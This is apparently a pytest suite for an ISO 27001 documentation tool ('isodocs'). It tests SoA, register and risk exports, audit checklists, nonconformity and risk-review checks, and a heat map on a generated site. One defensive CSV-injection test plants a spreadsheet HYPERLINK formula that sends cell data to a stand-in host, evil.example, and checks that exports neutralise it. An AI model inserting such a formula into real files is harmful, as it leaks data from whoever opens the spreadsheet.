"""The certification cycle on a scaffolded 27001 repository: exports, checklist, nonconformities, heat map."""

from __future__ import annotations

import csv
import io
import json
import re
import subprocess
import sys
from datetime import date
from pathlib import Path

import openpyxl
import pytest
from conftest import TODAY, run
from scaffold import approve_everything, scaffold

from isodocs.model import catalog

RISKS = """risks:
  R-001:
    asset: Customer database
    threat: Access with stolen credentials
    likelihood: 4
    impact: 5
    owner: security-officer
    treatment: reduce
    controls: {iso27001-2022: ["A.5.15", "A.8.5"]}
    residual: {likelihood: 1, impact: 5}
    review: 2027-03-01
    action: Multi-factor authentication for administrators
    due: 2027-01-31
  R-002:
    asset: Laptops
    threat: Theft
    likelihood: 2
    impact: 3
    owner: system-owner
    treatment: accept
    review: 2027-03-01"""


@pytest.fixture(scope="module")
def approved(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = scaffold(tmp_path_factory.mktemp("cycle") / "acme", "iso27001-2022", organization="Acme Ltd")
    register = root / "docs/registers/risk-register.md"
    register.write_text(register.read_text(encoding="utf-8").replace("risks: {}", RISKS), encoding="utf-8")
    approve_everything(root, TODAY)
    return root


def test_soa_exports_to_xlsx_as_a_controlled_document_with_one_row_per_control(approved: Path, tmp_path: Path):
    target = tmp_path / "soa.xlsx"
    assert run("export", "soa", "--format", "xlsx", "--output", str(target), "--path", str(approved),
               "--today", "2026-12-01").code == 0
    workbook = openpyxl.load_workbook(target)
    sheet = workbook.active
    rows = list(sheet.iter_rows(values_only=True))
    head = next(i for i, row in enumerate(rows) if row[:2] == ("Standard", "Control"))
    control = {row[0]: row[1] for row in rows[:head] if row[0]}
    assert control["Organization"] == "Acme Ltd" and control["Standard"] == "ISO/IEC 27001:2022"
    assert (control["SoA id"], control["Title"], control["Version"], control["Status"]) == \
        ("REG-001", "Statement of Applicability", "1.0", "approved")
    assert "top-management" in control["Approver"]
    assert control["Approval date"].date() == date.fromisoformat(TODAY)
    assert control["Date exported"].date() == date(2026, 12, 1)
    assert rows[head][:4] == ("Standard", "Control", "Title", "Applicable")
    assert len(rows) - head - 1 == 93
    assert [row[1] for row in rows[head + 1:]] == [c.id for c in catalog.load("iso27001-2022").controls]
    assert sheet.freeze_panes == f"A{head + 2}" and sheet.column_dimensions["C"].width >= 40
    assert sheet.print_title_rows == f"${head + 1}:${head + 1}" and sheet.page_setup.orientation == "landscape"
    assert workbook.properties.creator == "isodocs" and workbook.properties.title == "Statement of Applicability"
    documents = rows[head][:].index("Implementing documents")
    first = rows[head + 1]
    assert re.fullmatch(r"([A-Z]+-[A-Z0-9-]+ .+ \(v1\.0, approved\)\n?)+", first[documents])


def test_the_soa_export_says_implemented_only_when_an_approved_document_implements_it(approved: Path, tmp_path: Path):
    import shutil
    root = tmp_path / "drafted"
    shutil.copytree(approved, root)
    policy = next(p for p in (root / "docs").rglob("*.md")
                  if '"A.5.15"' in p.read_text(encoding="utf-8") and "statement-of-applicability" not in p.name)
    policy.write_text(policy.read_text(encoding="utf-8").replace("\nstatus: approved\n", "\nstatus: draft\n", 1),
                      encoding="utf-8")
    out = run("export", "soa", "--path", str(root), "--today", TODAY).out
    rows = list(csv.reader(io.StringIO(out)))
    head = next(i for i, row in enumerate(rows) if row[:2] == ["Standard", "Control"])
    table = {row[1]: dict(zip(rows[head], row, strict=True)) for row in rows[head + 1:]}
    assert table["A.5.15"]["Implementation status"].startswith("not yet")
    assert table["A.5.15"]["State in isodocs"] == "pending"
    assert "(v1.0, draft)" in table["A.5.15"]["Implementing documents"]
    assert table["A.5.1"]["Implementation status"] == "implemented"
    assert table["A.5.1"]["Reasons for selection"] == "Risk treatment"


def test_register_exports_dates_as_dates(approved: Path, tmp_path: Path):
    target = tmp_path / "register.xlsx"
    run("export", "register", "--format", "xlsx", "--output", str(target), "--path", str(approved))
    sheet = openpyxl.load_workbook(target).active
    headers = [c.value for c in sheet[1]]
    approved_column = headers.index("Approved")
    cell = sheet.cell(row=2, column=approved_column + 1)
    assert cell.value.date() == date.fromisoformat(TODAY) and cell.number_format == "yyyy-mm-dd"
    text = run("export", "register", "--path", str(approved)).out
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0][0] == "ID" and len(rows) > 30


def test_risks_export_and_checks(approved: Path, tmp_path: Path):
    text = run("export", "risks", "--path", str(approved)).out
    rows = list(csv.reader(io.StringIO(text)))
    assert [r[0] for r in rows[1:]] == ["R-001", "R-002"] and rows[1][5] == "20"
    report = json.loads(run("check", str(approved), "--format", "json", "--today", TODAY).out)
    assert report["findings"] == []
    late = json.loads(run("check", str(approved), "--format", "json", "--today", "2027-03-02").out)
    assert {f["rule"] for f in late["findings"]} >= {"risk-review-overdue"}


def test_checklist_lists_every_clause_4_to_10_then_every_applicable_control(approved: Path, tmp_path: Path):
    iso27001 = catalog.load("iso27001-2022")
    clauses = [e.id for e in iso27001.entries.values() if not e.annex]
    controls = [c.id for c in iso27001.controls]   # approve_everything makes every control applicable
    out = run("audit", "checklist", "iso27001-2022", "--path", str(approved)).out
    table = out[out.index("| Clause |"):]
    listed = [line.split("|")[1].strip() for line in table.splitlines()[2:] if line.startswith("| ")]
    assert listed == clauses + controls and listed[0] == "4" and clauses[-1] == "10.2"
    assert "PRO-008 Internal audit" in out
    assert "| 6.1.1 | 6.1 Actions to address risks and opportunities | General |" in out
    assert "| Audit date |" in out and "| Auditor |" in out and "| Audit scope |" in out
    assert "Finding: Conformity | Minor nonconformity | Major nonconformity | Opportunity for improvement" in out

    target = tmp_path / "checklist.xlsx"
    run("audit", "checklist", "iso27001-2022", "--format", "xlsx", "--output", str(target), "--path", str(approved))
    sheet = openpyxl.load_workbook(target).active
    rows = list(sheet.iter_rows(values_only=True))
    head = next(i for i, row in enumerate(rows) if row[0] == "Clause")
    block = {row[0]: row[1] for row in rows[:head] if row[0]}
    assert block["Organization"] == "Acme Ltd" and block["Audit criteria"].startswith("ISO/IEC 27001:2022; REG-001")
    assert {"Audit date", "Auditor", "Audit scope"} <= set(block)
    assert list(rows[head])[-2:] == ["Evidence", "Finding"] and len(rows) - head - 1 == len(clauses) + len(controls)
    a51 = next(row for row in rows[head + 1:] if row[0] == "A.5.1")
    assert a51[4] == "Selected to treat assessed risks" and "(v1.0, approved)" in a51[5]
    validations = sheet.data_validations.dataValidation
    assert len(validations) == 1 and validations[0].type == "list"
    assert validations[0].formula1 == '"Conformity,Minor nonconformity,Major nonconformity,Opportunity for improvement"'
    finding = chr(ord("A") + len(rows[head]) - 1)
    assert str(validations[0].sqref) == f"{finding}{head + 2}:{finding}{len(rows)}"
    assert sheet.print_title_rows == f"${head + 1}:${head + 1}" and sheet.page_setup.orientation == "landscape"


def test_an_overdue_nonconformity_fails_the_check_once_certified(approved: Path, tmp_path: Path):
    import shutil
    root = tmp_path / "certified"
    shutil.copytree(approved, root)
    config = root / "isodocs.yml"
    config.write_text(config.read_text(encoding="utf-8").replace("stage: preparation", "stage: certified"),
                      encoding="utf-8")
    assert run("check", str(root), "--today", TODAY).code == 0
    (root / "docs/records/nc-2026-007.md").write_text(
        "---\nid: NC-2026-007\ntitle: Access review missed\ntype: record\nowner: security-officer\nstatus: draft\n"
        "nonconformity:\n  raised: 2026-09-01\n  source: internal-audit\n  clause: iso27001-2022:A.5.18\n"
        "  grade: major\n  due: 2026-10-31\n---\n# Access review missed\n", encoding="utf-8")
    result = run("check", str(root), "--format", "json", "--today", TODAY)
    assert result.code == 1
    assert [(f["rule"], f["severity"]) for f in json.loads(result.out)["findings"]] == \
        [("nonconformity-overdue", "error")]
    text = run("export", "nonconformities", "--path", str(root), "--today", TODAY).out
    assert "NC-2026-007" in text and text.strip().endswith("overdue")


def test_the_heat_map_shows_on_the_site(approved: Path):
    result = subprocess.run([str(Path(sys.executable).parent / "mkdocs"), "build", "--strict"], cwd=approved,
                            capture_output=True, text=True, env={"NO_MKDOCS_2_WARNING": "1", "PATH": "/usr/bin:/bin"})
    assert result.returncode == 0, result.stderr
    page = (approved / "site/overview/risks/index.html").read_text(encoding="utf-8")
    assert page.count('<svg class="isodocs-heatmap"') == 2
    assert 'data-likelihood="4" data-impact="5" data-count="1"' in page
    assert 'data-likelihood="1" data-impact="5" data-count="1"' in page
    assert "Multi-factor authentication for administrators" in page


def test_certification_audits_follow_from_the_issue_date():
    from isodocs.analysis.certification import certification_events
    from isodocs.model.config import Certification, Config
    config = Config(Path("isodocs.yml"), "Acme", ["iso9001-2015"],
                    certification=Certification(issued=date(2026, 2, 1)))
    assert certification_events(config) == [(date(2027, 2, 1), "surveillance"), (date(2028, 2, 1), "surveillance"),
                                             (date(2028, 11, 3), "recertification"), (date(2029, 2, 1), "expires")]
    config.certification.surveillance = [date(2027, 3, 1)]
    assert certification_events(config)[0] == (date(2027, 3, 1), "surveillance")


def test_a_treatment_action_past_due_is_reported_until_it_is_done(approved: Path, tmp_path: Path):
    import shutil
    root = tmp_path / "late"
    shutil.copytree(approved, root)

    def rules(today: str) -> list[tuple[str, str]]:
        report = json.loads(run("check", str(root), "--format", "json", "--today", today).out)
        return [(f["rule"], f["message"]) for f in report["findings"] if f["rule"] == "risk-action-overdue"]

    assert rules("2027-01-31") == []
    late = rules("2027-02-10")
    assert len(late) == 1 and "R-001" in late[0][1] and "2027-01-31" in late[0][1] and "10 days" in late[0][1]
    register = root / "docs/registers/risk-register.md"
    register.write_text(register.read_text(encoding="utf-8").replace("    due: 2027-01-31\n",
                                                                     "    due: 2027-01-31\n    done: 2027-01-20\n"),
                        encoding="utf-8")
    assert rules("2027-02-10") == []
    listed = json.loads(run("tasks", "--path", str(root), "--format", "json", "--today", "2027-02-10",
                            "--within", "1 year").out)["tasks"]
    assert not [t for t in listed if t["kind"] == "risk-action"]


def test_risks_above_the_acceptance_level_must_be_treated(approved: Path, tmp_path: Path):
    import shutil
    root = tmp_path / "accepting"
    shutil.copytree(approved, root)

    def exported() -> dict[str, str]:
        rows = list(csv.reader(io.StringIO(run("export", "risks", "--path", str(root)).out)))
        return {row[0]: row[rows[0].index("Above acceptance")] for row in rows[1:]}

    def found() -> list[str]:
        report = json.loads(run("check", str(root), "--format", "json", "--today", TODAY).out)
        return [f["message"] for f in report["findings"] if f["rule"] == "risk-above-acceptance"]

    assert exported() == {"R-001": "", "R-002": ""} and found() == []
    config = root / "isodocs.yml"
    text = config.read_text(encoding="utf-8")
    config.write_text(text.replace("defaults:\n", "defaults:\n  risk_acceptance: 10\n", 1), encoding="utf-8")
    assert exported() == {"R-001": "Yes", "R-002": "No"} and found() == []   # R-001 is treated
    register = root / "docs/registers/risk-register.md"
    text = register.read_text(encoding="utf-8")
    assert "    treatment: reduce\n    controls:" in text
    register.write_text(text.replace("    treatment: reduce\n    controls:", "    treatment: accept\n    controls:"),
                        encoding="utf-8")
    messages = found()
    assert len(messages) == 1 and "R-001" in messages[0] and "level 20" in messages[0] and "10" in messages[0]


FULL_AUDIT = ('{planned: "2026-10", standard: iso27001-2022, clauses: ["4", "5", "6", "7", "8", "9", "10", "A.5", '
              '"A.6", "A.7", "A.8"], auditor: Q. Auditor, done: 2026-10-20}')


def test_before_the_initial_audit_a_full_internal_audit_and_a_management_review_are_done(approved: Path,
                                                                                         tmp_path: Path):
    import shutil
    root = tmp_path / "initial"
    shutil.copytree(approved, root)
    config = root / "isodocs.yml"
    text = config.read_text(encoding="utf-8")
    assert re.search(r"\n  initial: +#[^\n]*\n", text), "the starter isodocs.yml has a place for the date"
    config.write_text(re.sub(r"\n  initial: +#[^\n]*\n", "\n  initial: 2027-01-15\n", text), encoding="utf-8")

    def found(today: str = TODAY) -> list[str]:
        report = json.loads(run("check", str(root), "--format", "json", "--today", today).out)
        return [f["message"] for f in report["findings"] if f["rule"] == "initial-audit-unprepared"]

    assert found("2026-10-01") == []                      # more than 90 days before it
    first = found()
    assert len(first) == 1 and "2027-01-15 is 55 days away" in first[0] and "ISO/IEC 27001:2022" in first[0]
    programme = root / "docs/plans/audit-programme.md"
    text = programme.read_text(encoding="utf-8")
    starter = FULL_AUDIT.replace('"2026-10"', '"2027-03"').replace("Q. Auditor, done: 2026-10-20", "")
    assert f"  - {starter}\n" in text, "the starter programme begins with one full internal audit"
    programme.write_text(text.replace(starter, FULL_AUDIT), encoding="utf-8")
    assert found() == []                                  # the starter programme, its first audit done
    record = root / "docs/records/management-review.md"
    record.write_text(record.read_text(encoding="utf-8").replace("\nstatus: approved\n", "\nstatus: draft\n", 1),
                      encoding="utf-8")
    assert len(found()) == 1 and "management review" in found()[0]


def test_exports_keep_a_title_that_looks_like_a_formula_as_text(approved: Path, tmp_path: Path):
    """CSV injection: `=HYPERLINK(...)` in a title must open as text; a control character must not break xlsx."""
    root = tmp_path / "repo"
    subprocess.run(["cp", "-r", str(approved), str(root)], check=True)
    policy = next((root / "docs/policies").glob("*.md"))
    text = policy.read_text(encoding="utf-8")
    title = re.search(r"^title: (.*)$", text, re.M)
    assert title is not None
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"x")\x01'
    policy.write_text(text.replace(title.group(0), f"title: {json.dumps(hostile)}"), encoding="utf-8")
    rows = list(csv.reader(io.StringIO(run("export", "register", "--path", str(root)).out)))
    cells = [cell for row in rows for cell in row if "HYPERLINK" in cell]
    assert cells and all(cell.startswith("'=") for cell in cells)
    target = tmp_path / "register.xlsx"
    assert run("export", "register", "--format", "xlsx", "--output", str(target), "--path", str(root)).code == 0
    sheet = openpyxl.load_workbook(target).active
    found = [c for row in sheet.iter_rows() for c in row if isinstance(c.value, str) and "HYPERLINK" in c.value]
    assert found and all(c.data_type == "s" and c.value.startswith("=HYPERLINK") for c in found)


@pytest.mark.parametrize("standard", ["iso42001-2023", "iso27701-2025"])
def test_the_checklist_of_42001_and_27701_lists_their_applicable_controls(tmp_path: Path, standard: str):
    root = scaffold(tmp_path / "repo", "iso27001-2022", standard, organization="Acme Ltd")
    approve_everything(root, TODAY)   # every control decided applicable
    target = tmp_path / "checklist.xlsx"
    assert run("audit", "checklist", standard, "--format", "xlsx", "--output", str(target), "--path", str(root),
               "--today", TODAY).code == 0
    rows = list(openpyxl.load_workbook(target).active.iter_rows(values_only=True))
    head = next(i for i, row in enumerate(rows) if row[0] == "Clause")
    controls = [c.id for c in catalog.load(standard).controls]
    listed = [row[0] for row in rows[head + 1:]]
    assert listed[-len(controls):] == controls and not set(controls) & set(listed[:-len(controls)])
    first = next(row for row in rows[head + 1:] if row[0] == controls[0])
    assert first[4] == "Selected to treat assessed risks" and first[1]   # the SoA's justification, the part it is in
